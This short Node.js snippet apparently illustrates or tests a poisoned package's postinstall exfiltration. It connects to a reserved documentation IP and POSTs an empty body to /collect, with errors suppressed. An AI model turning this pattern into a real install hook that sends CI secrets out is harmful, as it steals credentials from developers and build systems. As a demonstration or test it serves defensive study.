// What a poisoned package's postinstall does: send the CI environment home (here: to the test
// namespace's documentation address).
const net = require("net");
const s = net.connect({ host: "203.0.113.7", port: 80 }, () => {
  s.end("POST /collect HTTP/1.0\r\nContent-Length: 2\r\n\r\n{}");
});
s.on("error", () => {});
s.setTimeout(5000, () => s.destroy());
